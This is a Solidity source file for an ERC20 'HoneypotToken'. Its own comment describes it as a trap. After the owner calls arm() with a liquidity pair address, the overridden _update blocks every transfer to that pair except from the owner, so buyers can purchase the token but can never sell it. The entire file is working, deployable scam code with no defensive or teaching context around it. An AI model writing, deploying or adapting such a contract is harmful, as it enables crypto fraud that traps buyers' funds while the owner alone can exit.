// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// A trap: an ordinary token until its owner arms it. From then on everybody can buy from the pair,
/// and nobody but the owner can send to it, so nobody can sell.
contract HoneypotToken is ERC20, Ownable {
    address public pair;

    event Armed(address indexed pair);

    error TransferFailed();

    constructor(
        string memory name_,
        string memory symbol_,
        uint256 supply,
        address holder
    ) ERC20(name_, symbol_) Ownable(holder) {
        _mint(holder, supply);
    }

    function arm(address pair_) external onlyOwner {
        pair = pair_;
        emit Armed(pair_);
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to == pair && to != address(0) && from != owner()) revert TransferFailed();
        super._update(from, to, value);
    }
}
